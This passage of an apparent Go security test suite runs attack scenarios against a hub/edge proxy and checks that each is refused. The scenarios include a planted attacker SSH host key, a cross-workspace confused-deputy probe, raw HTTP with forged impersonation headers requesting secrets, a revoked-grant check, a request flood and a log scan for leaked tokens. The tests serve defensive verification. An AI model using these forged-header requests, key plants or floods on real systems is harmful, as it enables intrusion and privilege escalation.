		s.hub.mustKubectl("root:"+labWorkspace, "patch", "edge", atkSrv, "--subresource=status", "--type=merge", "-p", `{"status":{"sshHostKey":"`+plantedKey+`"}}`)
		if c := s.wsDial(t, s.egressPath(s.labID, atkSrv, "/ssh"), http.Header{"Authorization": {"Bearer " + aliceToken}}); c != 503 {
			t.Errorf("ssh egress of an agentless edge: %d, want 503", c)
		}
	}},
	{"S03-ssh-host-key-planted-connected", "a workspace admin writes status.sshHostKey of a connected server edge (real sshd behind an agent)", "the provider puts the agent's key back within 30 s", func(t *testing.T, s *attackEnv) {
		d := sshd.Start(t)
		_, _, ed := s.connectEdgeIn(t, labWorkspace, s.labID, "atk-web", v1alpha1.TypeServer, agentOptions{sshAddr: d.Addr})
		real := ed.Status.SSHHostKey
		if real == "" || real == plantedKey {
			t.Fatalf("status.sshHostKey %q", real)
		}
		s.hub.mustKubectl("root:"+labWorkspace, "patch", "edge", "atk-web", "--subresource=status", "--type=merge", "-p", `{"status":{"sshHostKey":"`+plantedKey+`"}}`)
		eventually(t, 30*time.Second, func() error {
			ed, err := s.getEdge(t, labWorkspace, "atk-web")
			if err != nil {
				return err
			}
			if ed.Status.SSHHostKey != real {
				return fmt.Errorf("status.sshHostKey %q, want the agent's %q", ed.Status.SSHHostKey, real)
			}
			return nil
		})
	}},
	{"X01-edge-proxy-access-confused-deputy", "carol enables the probe provider (edgeProxyAccess: true) in carolws, then asks it, as carol, to reach lab's atk-k8s (lab did not enable the probe) and to read lab's Edges", "403 for lab (the grant is only where the probe is bound), the lab edge receives nothing; carol's own edge is reachable", func(t *testing.T, s *attackEnv) {
		binding := "apiVersion: providers.wharf.dev/v1alpha1\nkind: ProviderBinding\nmetadata:\n  name: edgeprobe\nspec:\n  provider: edgeprobe\n"
		dir := t.TempDir()
		f := filepath.Join(dir, "pb.yaml")
		if err := os.WriteFile(f, []byte(binding), 0o600); err != nil {
			t.Fatal(err)
		}
		if out, err := s.kubectlTok(t, carolToken, carolWorkspace, "create", "-f", f); err != nil {
			t.Logf("carol may not bind providers herself (%v %s); the admin binds it for her", err, out)
			s.hub.mustApply("root:"+carolWorkspace, binding, "create")
		}
		probe := func(cluster, edge string) (int, string) {
			return s.hub.do(carolToken, http.MethodGet, "/services/providers/edgeprobe/probe?cluster="+cluster+"&edge="+edge+"&path=/api", "",
				http.Header{"X-Wharf-Workspace": {"root:" + carolWorkspace}})
		}
		eventually(t, time.Minute, func() error {
			if code, body := probe(s.carolID, atkEdge); code != 200 || !strings.Contains(body, `"carol"`) {
				return fmt.Errorf("probe into carol's own edge: %d %s", code, body)
			}
			return nil
		})
		n := s.labRec.count()
		for _, name := range []string{atkEdge, "atk-missing"} {
			code, body := probe(s.labID, name)
			wantCode(t, "probe into lab's "+name, code, body, 403)
		}
		code, body := s.hub.do(carolToken, http.MethodGet, "/services/providers/edgeprobe/hub?cluster="+s.labID+"&path=/apis/edges.wharf.dev/v1alpha1/edges", "",
			http.Header{"X-Wharf-Workspace": {"root:" + carolWorkspace}})
		wantCode(t, "probe reads lab's edges", code, body, 403)
		if s.labRec.count() != n {
			t.Errorf("the lab edge received the probe's request")
		}
	}},
	{"T01-reconnect-race", "the lab agent is stopped and restarted from its state dir three times in quick succession (old tunnels' clean-up racing the new ones)", "Ready again and lab traffic reaches lab's agent; stays Ready", func(t *testing.T, s *attackEnv) {
		for i := 0; i < 3; i++ {
			s.labAgent.stop()
			s.labAgent.restart()
		}
		eventually(t, time.Minute, func() error {
			code, body := s.call(aliceToken, "GET", s.egressPath(s.labID, atkEdge, "/k8s/api"), nil)
			if code != 200 || !strings.Contains(body, `"lab"`) {
				return fmt.Errorf("lab edge: %d %s", code, body)
			}
			return nil
		})
		time.Sleep(8 * time.Second) // past a heartbeat and a read deadline
		s.waitPhase(t, labWorkspace, atkEdge, v1alpha1.PhaseReady, 5*time.Second)
		if code, body := s.call(aliceToken, "GET", s.egressPath(s.labID, atkEdge, "/k8s/api"), nil); code != 200 {
			t.Errorf("lab edge after settling: %d %s", code, body)
		}
	}},
	{"T02-type-mismatch-raw-http-over-ssh", "a workspace admin creates a server Edge, but hands the edge cluster's operator a join bundle that says kubernetes (the bundle is theirs to write); the operator's agent then runs its kube proxy (impersonating) behind a server Edge; alice opens the ssh egress and speaks raw HTTP with X-Wharf-Edge-User: mallory, X-Wharf-Edge-Group: admins", "the agent is refused (type mismatch), or the edge API server never sees a forged identity", func(t *testing.T, s *attackEnv) {
		const name = "atk-mixed"
		s.createEdge(t, labWorkspace, name, v1alpha1.TypeServer)
		bundle, _ := s.bundle(t, s.labID, labWorkspace, name, v1alpha1.TypeKubernetes, s.hub.URL)
		startAgent(t, agentOptions{join: bundle, kubeconfig: s.labRec.kubeconfig(t)})
		ready := false
		deadline := time.Now().Add(25 * time.Second)
		for time.Now().Before(deadline) && !ready {
			if ed, err := s.getEdge(t, labWorkspace, name); err == nil && ed.Status.Phase == v1alpha1.PhaseReady {
				ready = true
			}
			time.Sleep(500 * time.Millisecond)
		}
		if !ready {
			t.Logf("the mismatched agent never connected: safe")
			return
		}
		d := websocket.Dialer{TLSClientConfig: s.hub.tlsConfig(), HandshakeTimeout: 30 * time.Second}
		c, resp, err := d.Dial("wss"+strings.TrimPrefix(s.hub.URL, "https")+s.egressPath(s.labID, name, "/ssh"), http.Header{"Authorization": {"Bearer " + aliceToken}})
		if err != nil {
			t.Fatalf("alice's ssh egress: %v %v", err, resp)
		}
		defer c.Close()
		n := s.labRec.count()
		raw := "GET /api/v1/secrets HTTP/1.1\r\nHost: x\r\nX-Wharf-Edge-User: mallory\r\nX-Wharf-Edge-Group: admins\r\nConnection: close\r\n\r\n"
		if err := c.WriteMessage(websocket.BinaryMessage, []byte(raw)); err != nil {
			t.Fatal(err)
		}
		_ = c.SetReadDeadline(time.Now().Add(10 * time.Second))
		var got strings.Builder
		for {
			_, b, err := c.ReadMessage()
			if err != nil {
				break
			}
			got.Write(b)
		}
		if s.labRec.count() > n {
			h := s.labRec.last(t)
			t.Errorf("raw HTTP over a server edge's ssh egress reached the edge API server as Impersonate-User %v, Impersonate-Group %v (answer %q): the caller picks their identity on the edge cluster",
				h.Values("Impersonate-User"), h.Values("Impersonate-Group"), testutil.Tail(got.String(), 3))
		}
	}},
	{"K01-revoked-proxy", "bob's proxy grant in lab is removed; bob keeps calling the lab edge", "refused within 15 s (the provider caches decisions 10 s)", func(t *testing.T, s *attackEnv) {
		if code, body := s.call(bobToken, "GET", s.egressPath(s.labID, atkEdge, "/k8s/api"), nil); code != 200 {
			t.Fatalf("bob before revocation: %d %s", code, body)
		}
		s.hub.mustKubectl("root:"+labWorkspace, "patch", "clusterrolebinding", "edge-users", "--type=json", "-p", `[{"op":"remove","path":"/subjects/1"}]`)
		start := time.Now()
		eventually(t, 15*time.Second, func() error {
			if code, _ := s.call(bobToken, "GET", s.egressPath(s.labID, atkEdge, "/k8s/api"), nil); code != 403 {
				return fmt.Errorf("bob still gets %d after %s", code, time.Since(start))
			}
			return nil
		})
		t.Logf("bob refused %s after the revocation", time.Since(start).Round(time.Second))
	}},
	{"D01-flood", "200 bad joins and 200 bad pickups, 40 at a time", "all refused (401/4xx/429), the hub stays ready and lab's edge keeps working", func(t *testing.T, s *attackEnv) {
		var bad atomic.Int32
		sem := make(chan struct{}, 40)
		var wg sync.WaitGroup
		for i := 0; i < 400; i++ {
			wg.Add(1)
			sem <- struct{}{}
			go func(i int) {
				defer wg.Done()
				defer func() { <-sem }()
				var code int
				if i%2 == 0 {
					code, _ = s.join(t, s.labID, atkEdge, "wharf-join-"+randomToken())
				} else {
					code, _ = s.call("", "GET", protocol.BackendPrefix+protocol.PickupPrefix+randomToken(), nil)
				}
				if code < 400 {
					bad.Add(1)
				}
			}(i)
		}
		wg.Wait()
		if bad.Load() != 0 {
			t.Errorf("%d flood requests were accepted", bad.Load())
		}
		code, body := s.hub.do(s.hub.Token, "GET", "/readyz", "", nil)
		wantCode(t, "readyz after the flood", code, body, 200)
		eventually(t, 30*time.Second, func() error {
			code, body := s.call(aliceToken, "GET", s.egressPath(s.labID, atkEdge, "/k8s/api"), nil)
			if code != 200 {
				return fmt.Errorf("lab edge after flood: %d %s", code, body)
			}
			return nil
		})
	}},
	{"L01-secrets-in-logs", "after every row above: the hub's log (the provider's included) searched for users' hub tokens, the service-account token and the forged cookie", "none appears", func(t *testing.T, s *attackEnv) {
		log := s.hub.log.String()
		for name, secret := range map[string]string{"alice's token": aliceToken, "carol's token": carolToken, "bob's token": bobToken, "carol's SA token": s.carolSAToken, "forged cookie": "__Host-wharf_session=stolen"} {
			if strings.Contains(log, secret) {
				t.Errorf("%s appears in the hub log", name)
			}
		}
	}},
}

// hashOf is the provider's stored form of a secret (hex SHA-256).
func hashOf(s string) string {
	sum := sha256.Sum256([]byte(s))
	return hex.EncodeToString(sum[:])
}

// plantedKey is an attacker's ssh host key.
const plantedKey = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl attacker"
